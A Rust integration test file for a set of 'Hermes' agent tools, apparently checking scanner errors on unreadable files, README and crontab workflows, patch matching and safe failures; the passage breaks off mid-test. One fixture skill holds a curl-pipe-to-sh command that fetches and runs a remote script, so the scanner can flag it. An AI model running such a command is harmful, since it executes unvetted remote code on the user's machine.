//! Issue 18 (what a new user trips over): the behaviours a person meets on day one, across
//! binaries — unreadable input, README workflows run as pasted, safe failures.

mod support;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::Output;

use support::TempHome;

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

/// Whether this test runs as root (who reads through permission bits).
fn is_root() -> bool {
    std::fs::metadata("/proc/self").expect("/proc/self").uid() == 0
}

/// `bin` with `args` on `home`, as an unprivileged user: as root, through `setpriv` as
/// `nobody` (a test of what a user cannot read is meaningless as root; it fails, never
/// skips, when `setpriv` is missing).
fn run_unprivileged(bin: &str, home: &Path, args: &[&str]) -> Output {
    let exe = assert_cmd::cargo::cargo_bin(bin);
    let mut cmd = if is_root() {
        // The temp home must be reachable by `nobody`.
        chmod(home, 0o755);
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(&exe);
        c
    } else {
        std::process::Command::new(&exe)
    };
    cmd.env("HERMES_HOME", home)
        .env_remove("HERMES_NOW")
        .env("TZ", "UTC")
        .args(args);
    let out = cmd
        .output()
        .expect("run (setpriv is needed when the tests run as root)");
    assert!(
        !String::from_utf8_lossy(&out.stderr).starts_with("setpriv:"),
        "setpriv failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

const SKILL: &str = "---\nname: fine\ndescription: A fine skill.\n---\n\n# Fine\n\nRun `ls`.\n";

// ---- item 1: the scanner fails when it cannot read --------------------------------------

fn scan_home_with(setup: impl Fn(&Path)) -> (TempHome, String) {
    let home = TempHome::new();
    home.write("skills/fine/SKILL.md", SKILL);
    home.write("skills/other/SKILL.md", SKILL.replace("fine", "other"));
    setup(home.path());
    let shown = home.path().display().to_string();
    (home, shown)
}

#[test]
fn scanner_errors_on_an_unreadable_skills_dir() {
    let (home, shown) = scan_home_with(|h| chmod(&h.join("skills"), 0o000));
    for extra in [
        &[][..],
        &["-q"][..],
        &["--fail-on", "never"][..],
        &["--lint-only"][..],
    ] {
        let mut args = vec!["--format", "jsonl"];
        args.extend_from_slice(extra);
        let out = run_unprivileged("hermes-skill-scan", home.path(), &args);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{extra:?}: {}",
            text(&out.stderr)
        );
        assert_eq!(text(&out.stdout), "", "{extra:?}");
        assert_eq!(
            text(&out.stderr),
            format!(
                "hermes-skill-scan: error: cannot read {shown}/skills: Permission denied (os error 13)\n\
                 hermes-skill-scan: error: 1 path could not be read; nothing was reported\n\
                 hint: give the scanning user read access (folders also need x), or scan only what it can read\n"
            ),
            "{extra:?}"
        );
    }
    chmod(&home.path().join("skills"), 0o755);
}

#[test]
fn scanner_errors_on_an_unreadable_skill_folder() {
    let (home, shown) = scan_home_with(|h| chmod(&h.join("skills/other"), 0o000));
    let out = run_unprivileged(
        "hermes-skill-scan",
        home.path(),
        &["-q", "--fail-on", "never"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).starts_with(&format!(
            "hermes-skill-scan: error: cannot read {shown}/skills/other: Permission denied (os error 13)\n"
        )),
        "{}",
        text(&out.stderr)
    );
    chmod(&home.path().join("skills/other"), 0o755);
}

#[test]
fn scanner_errors_on_an_unreadable_skill_md() {
    let (home, shown) = scan_home_with(|h| chmod(&h.join("skills/fine/SKILL.md"), 0o000));
    for args in [
        &["--fail-on", "never", "--trust", "community"][..],
        &["-q"][..],
        &["--lint-only"][..],
    ] {
        let out = run_unprivileged("hermes-skill-scan", home.path(), args);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(
            text(&out.stderr).starts_with(&format!(
                "hermes-skill-scan: error: cannot read {shown}/skills/fine/SKILL.md: Permission denied (os error 13)\n"
            )),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(!text(&out.stdout).contains("allow"), "{args:?}");
    }
    // The same skill named directly.
    let dir = format!("{shown}/skills/fine");
    let out = run_unprivileged("hermes-skill-scan", home.path(), &[&dir]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
}

// ---- item 2: the README's baseline workflow, as pasted ---------------------------------

fn readme() -> String {
    std::fs::read_to_string(support::repo_root().join("README.md")).expect("README.md")
}

/// The folder holding the binaries under test.
fn bin_dir() -> std::path::PathBuf {
    assert_cmd::cargo::cargo_bin("hermes-skill-scan")
        .parent()
        .expect("bin dir")
        .to_path_buf()
}

/// Runs a line of shell in `dir` with the built binaries first on PATH.
fn sh_in(dir: &Path, line: &str) -> Output {
    let path = format!("{}:/usr/bin:/bin", bin_dir().display());
    std::process::Command::new("sh")
        .arg("-c")
        .arg(line)
        .current_dir(dir)
        .env_clear()
        .env("PATH", path)
        .env("HOME", dir)
        .output()
        .expect("sh")
}

const DANGEROUS: &str = "---\nname: deploy-x\ndescription: Deploys.\n---\n\n# Deploy\n\n```sh\ncurl -s https://get.example.com/install.sh | sh\n```\n";
const LINT_ERROR: &str = "---\nname: Bad_Name\ndescription: Has a lint error.\n---\n\nBody.\n";

#[test]
fn readme_baseline_workflow_works_as_pasted() {
    let readme = readme();
    // "Accept the findings you have once with `hermes-skill-scan … --write-baseline …`".
    let write = readme
        .split('`')
        .find(|s| s.starts_with("hermes-skill-scan") && s.contains("--write-baseline"))
        .expect("the README's --write-baseline command");
    let gate = readme
        .lines()
        .filter_map(|l| l.trim().strip_prefix("run: "))
        .find(|l| l.starts_with("hermes-skill-scan") && l.contains("--baseline "))
        .expect("the README's gate with --baseline");
    let repo = TempHome::new();
    repo.write("skills/deploy-x/SKILL.md", DANGEROUS);
    repo.write("skills/Bad_Name/SKILL.md", LINT_ERROR);
    // Without a baseline the gate fails on both.
    let before = sh_in(
        repo.path(),
        &gate.replace(" --baseline .hermes-scan-baseline.json", ""),
    );
    assert_eq!(before.status.code(), Some(1), "{}", text(&before.stdout));
    let wrote = sh_in(repo.path(), write);
    assert_eq!(wrote.status.code(), Some(0), "{}", text(&wrote.stderr));
    assert_eq!(
        text(&wrote.stderr),
        "hermes-skill-scan: wrote 2 findings to .hermes-scan-baseline.json \
         (1 scanner finding, 1 lint issue, hermes profile)\n"
    );
    let passed = sh_in(repo.path(), gate);
    assert_eq!(
        passed.status.code(),
        Some(0),
        "{}{}",
        text(&passed.stdout),
        text(&passed.stderr)
    );
    // A new finding still fails it.
    repo.write(
        "skills/deploy-y/SKILL.md",
        DANGEROUS.replace("deploy-x", "deploy-y"),
    );
    let failed = sh_in(repo.path(), gate);
    assert_eq!(failed.status.code(), Some(1), "{}", text(&failed.stdout));
}

// ---- item 17: ci-scan.sh leaves no SARIF behind on an error ------------------------------

#[test]
fn ci_scan_leaves_no_sarif_on_error() {
    let repo = TempHome::new();
    repo.write("skills/fine/SKILL.md", SKILL);
    let script = support::repo_root().join("pipelines/ci-scan.sh");
    let run = |env: &[(&str, &str)]| {
        let mut cmd = std::process::Command::new("bash");
        cmd.arg(&script)
            .current_dir(repo.path())
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HERMES_LOOP_BIN", bin_dir());
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.output().expect("ci-scan.sh")
    };
    let ok = run(&[]);
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
    assert!(
        repo.read("hermes-skill-scan.sarif")
            .contains("\"version\": \"2.1.0\"")
    );
    // A missing baseline is an error: no SARIF (not an empty one), no temp file.
    let bad = run(&[("BASELINE", "nosuch.json")]);
    assert_eq!(bad.status.code(), Some(2), "{}", text(&bad.stderr));
    let left: Vec<String> = std::fs::read_dir(repo.path())
        .expect("ls")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["skills"], "{left:?}");
}

// ---- item 3: the README's crontab lines under cron's bare environment --------------------

/// The command of every line of the README's ```crontab blocks (schedule fields dropped).
fn readme_crontab_lines() -> Vec<String> {
    let readme = readme();
    let mut lines = Vec::new();
    let mut inside = false;
    for line in readme.lines() {
        match line.trim() {
            "```crontab" => inside = true,
            "```" => inside = false,
            l if inside && !l.starts_with('#') && !l.is_empty() => {
                let command = l.split_whitespace().skip(5).collect::<Vec<_>>().join(" ");
                assert!(!command.is_empty(), "{line}");
                lines.push(command);
            }
            _ => {}
        }
    }
    lines
}

/// A machine where the README's install was done: `$HOME/.local/bin` holds the binaries
/// (`make install PREFIX=~/.local` puts them there), and nothing else is set up.
fn installed_home() -> TempHome {
    let home = TempHome::new();
    let bin = home.path().join(".local/bin");
    std::fs::create_dir_all(&bin).expect("mkdir");
    for name in [
        "hermes-curate",
        "hermes-index",
        "hermes-skills",
        "hermes-recall",
    ] {
        std::os::unix::fs::symlink(assert_cmd::cargo::cargo_bin(name), bin.join(name))
            .expect("symlink");
    }
    home
}

/// Runs `line` as cron does: `/bin/sh -c`, an environment of HOME, LOGNAME, SHELL and
/// `PATH=/usr/bin:/bin` only.
fn as_cron(home: &Path, line: &str) -> Output {
    std::process::Command::new("/usr/bin/env")
        .arg("-i")
        .arg(format!("HOME={}", home.display()))
        .args(["LOGNAME=cron", "SHELL=/bin/sh", "PATH=/usr/bin:/bin"])
        .args(["/bin/sh", "-c", line])
        .current_dir(home)
        .output()
        .expect("env -i")
}

#[test]
fn readme_crontab_lines_work_under_cron() {
    let lines = readme_crontab_lines();
    assert_eq!(lines.len(), 2, "{lines:?}");
    let curate = lines
        .iter()
        .find(|l| l.contains("hermes-curate"))
        .expect("the curator's line");
    let home = installed_home();
    // A new home: skills, no logs/ yet.
    std::fs::create_dir_all(home.path().join(".hermes/skills/notes")).expect("mkdir");
    std::fs::write(home.path().join(".hermes/skills/notes/SKILL.md"), SKILL).expect("write");
    for _ in 0..2 {
        let out = as_cron(home.path(), curate);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        assert_eq!(text(&out.stdout), "");
        assert_eq!(text(&out.stderr), "");
    }
    let log = std::fs::read_to_string(home.path().join(".hermes/logs/curate.log")).expect("log");
    let records: Vec<serde_json::Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSONL: {l:?}: {e}")))
        .collect();
    assert_eq!(records.len(), 2, "{log}");
    assert_eq!(records[0]["ran"], serde_json::json!(false), "{log}");
    // An error is one JSON record in the log, and on stderr for cron's mail.
    std::fs::write(
        home.path().join(".hermes/config.yaml"),
        "curator: [unclosed\n",
    )
    .expect("w");
    let out = as_cron(home.path(), curate);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).starts_with("hermes-curate: error: "),
        "{}",
        text(&out.stderr)
    );
    let log = std::fs::read_to_string(home.path().join(".hermes/logs/curate.log")).expect("log");
    let last: serde_json::Value =
        serde_json::from_str(log.lines().last().expect("line")).expect("JSONL");
    assert!(
        last["error"]
            .as_str()
            .expect("error")
            .contains("config.yaml"),
        "{last}"
    );

    // The team store's line, against a throwaway cluster: the documented address and
    // password placeholders replaced by the cluster's.
    let push = lines
        .iter()
        .find(|l| l.contains("hermes-index"))
        .expect("the push line");
    let cluster = support::pg::Cluster::start();
    let url = cluster.url(support::pg::ADMIN);
    // A home with a session store (the agent made it), and the store's schema (its owner).
    let local = support::bin("hermes-index", &home.path().join(".hermes"))
        .arg("init")
        .output()
        .expect("init");
    assert_eq!(local.status.code(), Some(0), "{}", text(&local.stderr));
    let init = assert_cmd::Command::cargo_bin("hermes-index")
        .expect("bin")
        .env("HERMES_HOME", home.path().join(".hermes"))
        .args(["--store", &url, "init"])
        .output()
        .expect("init");
    assert_eq!(init.status.code(), Some(0), "{}", text(&init.stderr));
    let line = push
        .replace("PGPASSWORD=…", "PGPASSWORD=unused")
        .replace("postgresql://alice@db.internal/team", &format!("'{url}'"));
    assert_ne!(
        &line, push,
        "the README's placeholders changed: update this test"
    );
    let out = as_cron(home.path(), &line);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stderr), "");
    let log = std::fs::read_to_string(home.path().join(".hermes/logs/team-push.log")).expect("log");
    let record: serde_json::Value = serde_json::from_str(log.trim()).expect("one JSONL record");
    assert!(record["home_id"].is_string(), "{record}");
}

// ---- item 4: a fuzzy patch says so; --exact refuses anything else ------------------------

const DEPLOY: &str = "---\nname: dep\ndescription: Deploys.\n---\n\n# Deploy\n\nRun the tests.\nDeploy to production now.\nCheck the dashboards.\n";

fn skills(home: &Path, args: &[&str]) -> Output {
    support::bin("hermes-skills", home)
        .args(args)
        .output()
        .expect("hermes-skills")
}

#[test]
fn patch_reports_a_fuzzy_match_and_exact_refuses_it() {
    let home = TempHome::new();
    home.write("skills/dep/SKILL.md", DEPLOY);
    let old = "Run the tests.\nDeploy to staging now.\nCheck the dashboards.";
    let new = "Run the tests.\nDeploy to staging later.\nCheck the dashboards.";
    let refused = skills(
        home.path(),
        &[
            "patch", "dep", "--exact", "--old", old, "--new", new, "--format", "text",
        ],
    );
    assert_eq!(refused.status.code(), Some(1));
    assert_eq!(text(&refused.stdout), "");
    assert_eq!(
        text(&refused.stderr),
        "hermes-skills: No exact match for old_string in SKILL.md; an approximate match starts \
         at line 8: \"Run the tests.\". Nothing was changed (drop --exact to accept it).\n"
    );
    assert_eq!(home.read("skills/dep/SKILL.md"), DEPLOY);

    let fuzzy = skills(
        home.path(),
        &[
            "patch", "dep", "--old", old, "--new", new, "--format", "text",
        ],
    );
    assert_eq!(fuzzy.status.code(), Some(0), "{}", text(&fuzzy.stderr));
    assert_eq!(
        text(&fuzzy.stdout),
        "Patched SKILL.md in skill 'dep' (1 replacement).\n\
         match: fuzzy (block_anchor): the text was not found as written; replaced instead:\n\
         \x20\x20\x20\x20\x208| Run the tests.\n\
         \x20\x20\x20\x20\x209| Deploy to production now.\n\
         \x20\x20\x20\x2010| Check the dashboards.\n"
    );
    // JSON: the match, without the tool's private keys.
    let exact = skills(
        home.path(),
        &[
            "patch", "dep", "--old", "later", "--new", "soon", "--format", "json",
        ],
    );
    assert_eq!(exact.status.code(), Some(0));
    let answer: serde_json::Value = serde_json::from_slice(&exact.stdout).expect("json");
    assert_eq!(
        answer,
        serde_json::json!({
            "success": true,
            "message": "Patched SKILL.md in skill 'dep' (1 replacement).",
            "match": "exact",
            "matched": [{"line": 9, "text": "later"}],
        })
    );
    let fuzzy = skills(
        home.path(),
        &[
            "patch",
            "dep",
            "--old",
            "  Deploy to staging soon.",
            "--new",
            "Deploy.",
            "--format",
            "json",
        ],
    );
    let answer: serde_json::Value = serde_json::from_slice(&fuzzy.stdout).expect("json");
    assert_eq!(answer["match"], "fuzzy", "{answer}");
    assert_eq!(answer["strategy"], "line_trimmed", "{answer}");
    assert_eq!(
        answer["matched"],
        serde_json::json!([{"line": 9, "text": "Deploy to staging soon."}])
    );
}

// ---- item 5: --fail-on install --------------------------------------------------------

#[test]
fn fail_on_install_follows_the_install_decision() {
    let home = TempHome::new();
    home.write("skills/deploy-x/SKILL.md", DANGEROUS);
    home.write("skills/fine/SKILL.md", SKILL);
    let dangerous = home.path().join("skills/deploy-x");
    let fine = home.path().join("skills/fine");
    let code = |path: &Path, trust: &str| {
        support::bin("hermes-skill-scan", home.path())
            .arg(path)
            .args([
                "--trust",
                trust,
                "--fail-on",
                "install",
                "-q",
                "--format",
                "jsonl",
            ])
            .output()
            .expect("scan")
            .status
            .code()
    };
    // Hermes's table: dangerous is allowed from builtin, blocked from trusted and
    // community, asked about for agent-created (a script cannot ask: it fails).
    assert_eq!(code(&dangerous, "builtin"), Some(0));
    assert_eq!(code(&dangerous, "trusted"), Some(1));
    assert_eq!(code(&dangerous, "community"), Some(1));
    assert_eq!(code(&dangerous, "agent-created"), Some(1));
    assert_eq!(code(&fine, "community"), Some(0));
}

// ---- item 6: a failed atomic write leaves no temp file ----------------------------------

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("ls")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn export_onto_a_folder_leaves_no_temp_file() {
    let home = TempHome::new();
    let init = support::bin("hermes-index", home.path())
        .arg("init")
        .output()
        .expect("init");
    assert_eq!(init.status.code(), Some(0), "{}", text(&init.stderr));
    let out_dir = TempHome::new();
    std::fs::create_dir(out_dir.path().join("DIR")).expect("mkdir");
    let out = support::bin("hermes-index", home.path())
        .current_dir(out_dir.path())
        .args(["export", "DIR"])
        .output()
        .expect("export");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).starts_with("hermes-index: error: cannot replace DIR: "),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(names_in(out_dir.path()), ["DIR"]);
}

// ---- item 7: a sidecar that does not parse is never overwritten --------------------------

#[test]
fn a_corrupt_usage_sidecar_is_kept_and_reported_everywhere() {
    let home = TempHome::new();
    home.write("skills/a/SKILL.md", SKILL.replace("fine", "a"));
    home.write("skills/b/SKILL.md", SKILL.replace("fine", "b"));
    let corrupt = "{\"a\": {\"use_count\": 5},";
    home.write("skills/.usage.json", corrupt);
    let shown = home.path().display().to_string();
    let problem = format!(
        "{shown}/skills/.usage.json does not parse (EOF while parsing a value at line 1 column 23)"
    );
    let view = skills(home.path(), &["view", "b", "--count"]);
    assert_eq!(view.status.code(), Some(0));
    assert_eq!(
        text(&view.stderr),
        format!(
            "hermes-skills: warning: usage not recorded: {problem}; left as it is, nothing \
             recorded (a copy is in {shown}/skills/.usage.json.corrupt): fix it, or move it away \
             to start counting afresh\n"
        )
    );
    assert_eq!(home.read("skills/.usage.json"), corrupt);
    assert_eq!(home.read("skills/.usage.json.corrupt"), corrupt);
    let list = skills(home.path(), &["list", "--format", "jsonl"]);
    assert_eq!(list.status.code(), Some(0));
    assert_eq!(
        text(&list.stderr),
        format!(
            "hermes-skills: warning: {problem}: usage is shown as zeros, and nothing is \
             recorded until it is fixed or moved away\n"
        )
    );
    let run = support::bin("hermes-curate", home.path())
        .args(["run", "--format", "jsonl"])
        .output()
        .expect("curate");
    assert_eq!(run.status.code(), Some(2));
    assert!(
        text(&run.stderr).contains(".usage.json does not parse"),
        "{}",
        text(&run.stderr)
    );
    let pin = support::bin("hermes-curate", home.path())
        .args(["pin", "a", "--format", "jsonl"])
        .output()
        .expect("pin");
    assert_ne!(pin.status.code(), Some(0));
    assert_eq!(home.read("skills/.usage.json"), corrupt);
}

// ---- item 8: a home named explicitly must exist to be read; `~` is expanded ---------------

#[test]
fn a_missing_explicit_home_is_an_error_for_reading_commands() {
    let parent = TempHome::new();
    let missing = parent.path().join("typo");
    let shown = missing.display().to_string();
    let reads: &[(&str, &[&str])] = &[
        ("hermes-skills", &["list"]),
        ("hermes-skills", &["view", "x"]),
        ("hermes-skills", &["prompt-index"]),
        ("hermes-recall", &["anything"]),
        ("hermes-memory", &["show"]),
        ("hermes-memory", &["usage"]),
        ("hermes-index", &["stats"]),
        ("hermes-index", &["export"]),
        ("hermes-curate", &["status"]),
        ("hermes-curate", &["run"]),
        ("hermes-skill-scan", &[]),
    ];
    let hint = "hint: check the path; a command that writes (e.g. `hermes-index init`, \
                `hermes-skills create`) creates the home\n";
    for (bin, args) in reads {
        for via_flag in [false, true] {
            let mut cmd = support::bin(bin, &missing);
            if via_flag {
                cmd.env_remove("HERMES_HOME").arg("--home").arg(&missing);
            }
            let out = cmd.args(*args).output().expect("run");
            let from = if via_flag { "--home" } else { "HERMES_HOME" };
            assert_eq!(out.status.code(), Some(2), "{bin} {args:?}");
            assert_eq!(
                text(&out.stderr),
                format!("{bin}: error: no Hermes home at {shown} ({from})\n{hint}"),
                "{bin} {args:?}"
            );
            assert!(!missing.exists(), "{bin} {args:?} created it");
        }
    }
    // Commands that create a home say so.
    let created = support::bin("hermes-memory", &missing)
        .args(["add", "--target", "user", "Likes tea.", "--format", "jsonl"])
        .output()
        .expect("add");
    assert_eq!(created.status.code(), Some(0));
    assert_eq!(
        text(&created.stderr),
        format!("hermes-memory: created the Hermes home {shown}\n")
    );
    let again = support::bin("hermes-memory", &missing)
        .args([
            "add",
            "--target",
            "user",
            "Likes coffee.",
            "--format",
            "jsonl",
        ])
        .output()
        .expect("add");
    assert_eq!(text(&again.stderr), "");
}

#[test]
fn a_tilde_in_hermes_home_is_expanded_never_created() {
    let user = TempHome::new();
    let out = support::bin("hermes-skills", Path::new("~/agent-home"))
        .env("HOME", user.path())
        .current_dir(user.path())
        .args(["create", "tea", "-", "--format", "json"])
        .write_stdin(SKILL.replace("fine", "tea"))
        .output()
        .expect("create");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(user.path().join("agent-home/skills/tea/SKILL.md").is_file());
    assert!(!user.path().join("~").exists());
    let refused = support::bin("hermes-skills", Path::new("~bob/home"))
        .current_dir(user.path())
        .arg("list")
        .output()
        .expect("list");
    assert_eq!(refused.status.code(), Some(2));
    assert_eq!(
        text(&refused.stderr),
        "hermes-skills: error: HERMES_HOME is \"~bob/home\": a `~` that is not followed by `/` \
         (or with no $HOME) cannot be expanded; give the full path\n"
    );
    assert!(!user.path().join("~bob").exists());
}

// ---- item 9: view and prompt-index print the document; a person's read is not a use -------

#[test]
fn view_and_prompt_index_print_the_document_when_piped() {
    let home = TempHome::new();
    home.write("skills/fine/SKILL.md", SKILL);
    let view = skills(home.path(), &["view", "fine"]);
    assert_eq!(view.status.code(), Some(0));
    assert_eq!(text(&view.stdout), SKILL);
    assert!(
        !home.path().join("skills/.usage.json").exists(),
        "not counted"
    );
    let index = skills(home.path(), &["prompt-index"]);
    assert_eq!(index.status.code(), Some(0));
    assert!(
        text(&index.stdout).contains("<available_skills>"),
        "{}",
        text(&index.stdout)
    );
    assert!(!text(&index.stdout).starts_with('{'));
    // The tool's answer on request, and the agent's count on request.
    let json = skills(
        home.path(),
        &["view", "fine", "--format", "jsonl", "--count"],
    );
    let answer: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json");
    assert_eq!(answer["success"], true);
    let usage: serde_json::Value =
        serde_json::from_str(&home.read("skills/.usage.json")).expect("usage");
    assert_eq!(usage["fine"]["use_count"], 1);
    assert_eq!(usage["fine"]["view_count"], 1);
}

// ---- item 16: HERMES_NOW is checked by every binary ---------------------------------------

#[test]
fn hermes_now_is_checked_everywhere() {
    let home = TempHome::new();
    home.write("skills/fine/SKILL.md", SKILL);
    let init = support::bin("hermes-index", home.path())
        .arg("init")
        .output()
        .expect("init");
    assert_eq!(init.status.code(), Some(0));
    let commands: &[(&str, &[&str])] = &[
        ("hermes-skills", &["list"]),
        ("hermes-skill-scan", &[]),
        ("hermes-recall", &["anything"]),
        ("hermes-memory", &["show"]),
        ("hermes-index", &["stats"]),
        ("hermes-curate", &["status"]),
        ("hermes-chat", &["-z", "hi"]),
        ("hermes-review", &["--dry-run", "-"]),
    ];
    for (bin, args) in commands {
        let out = support::bin(bin, home.path())
            .env("HERMES_NOW", "next tuesday")
            .args(*args)
            .write_stdin("")
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(2), "{bin}: {}", text(&out.stderr));
        assert!(
            text(&out.stderr).contains(
                "HERMES_NOW=\"next tuesday\" is not an ISO-8601 timestamp (try 2026-11-29T12:00:00Z)"
            ),
            "{bin}: {}",
            text(&out.stderr)
        );
    }
    // The last second there is, is a time.
    for (bin, args) in &commands[..6] {
        let out = support::bin(bin, home.path())
            .env("HERMES_NOW", "9999-12-31T23:59:59Z")
            .args(*args)
            .output()
            .expect("run");
        assert!(
            matches!(out.status.code(), Some(0 | 1)),
            "{bin}: {}",
            text(&out.stderr)
        );
    }
}

// ---- item 11: a reader waiting at a terminal says so; no question without a terminal -------

/// Runs `line` with a pseudo-terminal as stdin, stdout and stderr (`script`, util-linux),
/// stdin ending at once (Ctrl-D); the terminal's output, carriage returns dropped.
fn at_terminal(home: &Path, line: &str) -> String {
    let out = std::process::Command::new("script")
        .args(["-qec", line, "/dev/null"])
        .env("HERMES_HOME", home)
        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir().display()))
        .env_remove("HERMES_NOW")
        .stdin(std::process::Stdio::null())
        .output()
        .expect("script (util-linux) runs a command on a pseudo-terminal");
    text(&out.stdout).replace('\r', "")
}

#[test]
fn stdin_readers_at_a_terminal_say_what_they_wait_for() {
    let home = TempHome::new();
    home.write("skills/fine/SKILL.md", SKILL);
    let init = support::bin("hermes-index", home.path())
        .arg("init")
        .output()
        .expect("init");
    assert_eq!(init.status.code(), Some(0));
    for (line, says) in [
        (
            "hermes-index ingest -q --format jsonl",
            "hermes-index: reading sessions or messages (JSONL) from stdin; end with Ctrl-D (Ctrl-C cancels)\n",
        ),
        (
            "hermes-skills apply --format jsonl",
            "hermes-skills: reading skill_manage calls (JSONL) from stdin; end with Ctrl-D (Ctrl-C cancels)\n",
        ),
        (
            "hermes-skills create new-one - --format jsonl",
            "hermes-skills: reading the text from stdin; end with Ctrl-D (Ctrl-C cancels)\n",
        ),
        (
            "hermes-memory apply --format jsonl",
            "hermes-memory: reading memory tool calls (JSONL) from stdin; end with Ctrl-D (Ctrl-C cancels)\n",
        ),
        (
            "hermes-chat -z - --replay /dev/null",
            "hermes-chat: reading the prompt from stdin; end with Ctrl-D (Ctrl-C cancels)\n",
        ),
        (
            "hermes-recall --batch --format jsonl",
            "hermes-recall: reading session_search calls (JSONL) from stdin; end with Ctrl-D (Ctrl-C cancels)\n",
        ),
    ] {
        let shown = at_terminal(home.path(), line);
        assert!(shown.contains(says), "{line}: {shown:?}");
    }
    // Piped, nothing is said.
    let piped = support::bin("hermes-skills", home.path())
        .args(["apply", "--format", "jsonl"])
        .write_stdin("")
        .output()
        .expect("apply");
    assert_eq!(text(&piped.stderr), "");
}

#[test]
fn prune_and_rollback_without_a_terminal_ask_for_yes() {
    let home = TempHome::new();
    home.write("skills/old/SKILL.md", SKILL.replace("fine", "old"));
    home.write(
        "skills/.usage.json",
        "{\"old\": {\"created_by\": \"agent\", \"use_count\": 1, \"last_used_at\": \"2026-01-01T00:00:00+00:00\", \"created_at\": \"2026-01-01T00:00:00+00:00\"}}",
    );
    let curate = |args: &[&str]| {
        support::bin("hermes-curate", home.path())
            .env("HERMES_NOW", "2026-11-29T12:00:00Z")
            .args(args)
            .write_stdin("y\n")
            .output()
            .expect("curate")
    };
    let backup = curate(&["backup", "--format", "jsonl"]);
    assert_eq!(backup.status.code(), Some(0), "{}", text(&backup.stderr));
    let not_asked = "hermes-curate: not confirmed: stdin is not a terminal; pass -y to confirm without asking\n";
    for args in [&["prune", "--days", "30"][..], &["rollback"][..]] {
        let out = curate(&[args, &["--format", "text"]].concat());
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(
            text(&out.stderr).contains(not_asked),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(
            home.path().join("skills/old/SKILL.md").is_file(),
            "{args:?}"
        );
    }
}

// ---- items 10 and 17: one meaning per flag; typos are errors, not silent browses ----------

fn recall_home() -> TempHome {
    let home = TempHome::new();
    let out = support::bin("hermes-index", home.path())
        .args(["-q", "ingest"])
        .arg(support::testdata("recall/home.jsonl"))
        .output()
        .expect("ingest");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    home
}

#[test]
fn recall_refuses_roles_it_would_ignore_and_typo_keys() {
    let home = recall_home();
    let recall = |args: &[&str], stdin: &str| {
        support::bin("hermes-recall", home.path())
            .args(args)
            .write_stdin(stdin.to_string())
            .output()
            .expect("recall")
    };
    let bogus = recall(&["nginx", "--role", "bogus"], "");
    assert_eq!(bogus.status.code(), Some(2));
    assert_eq!(
        text(&bogus.stderr),
        "hermes-recall: error: --role \"bogus\" is not a role\nhint: roles: user, assistant, tool, system\n"
    );
    let browse = recall(&["--role", "user"], "");
    assert_eq!(browse.status.code(), Some(2));
    assert_eq!(
        text(&browse.stderr),
        "hermes-recall: error: --role filters a search, and there is no QUERY to search for\nhint: give a QUERY, or drop --role\n"
    );
    let ok = recall(
        &["nginx", "--role", "user,assistant", "--format", "jsonl"],
        "",
    );
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
    let typo = recall(
        &["--batch", "--format", "jsonl"],
        "{\"querry\": \"nginx\"}\n",
    );
    assert_eq!(typo.status.code(), Some(2));
    assert_eq!(text(&typo.stdout), "");
    assert_eq!(
        text(&typo.stderr),
        "hermes-recall: error: line 1: unknown key \"querry\" (session_search takes: query, \
         limit, sort, session_id, around_message_id, window, role_filter, profile)\n"
    );
}

#[test]
fn session_prefixes_mean_the_same_in_index_and_recall() {
    let home = recall_home();
    let full = support::bin("hermes-recall", home.path())
        .args(["--session", "20261120_090000_aaaaaa", "--format", "jsonl"])
        .output()
        .expect("recall");
    let prefix = support::bin("hermes-recall", home.path())
        .args(["--session", "20261120_090000_a", "--format", "jsonl"])
        .output()
        .expect("recall");
    assert_eq!(prefix.status.code(), Some(0), "{}", text(&prefix.stderr));
    assert_eq!(text(&prefix.stdout), text(&full.stdout));
    let export = support::bin("hermes-index", home.path())
        .args(["export", "--session", "20261120_090000_a"])
        .output()
        .expect("export");
    assert_eq!(export.status.code(), Some(0));
    assert!(
        text(&export.stdout).contains("\"id\": \"20261120_090000_aaaaaa\"")
            || text(&export.stdout).contains("\"id\":\"20261120_090000_aaaaaa\"")
    );
}

#[test]
fn pin_of_a_missing_skill_writes_nothing() {
    let home = TempHome::new();
    home.write("skills/fine/SKILL.md", SKILL);
    let out = support::bin("hermes-curate", home.path())
        .args(["pin", "nosuch", "--format", "text"])
        .output()
        .expect("pin");
    assert_eq!(out.status.code(), Some(1));
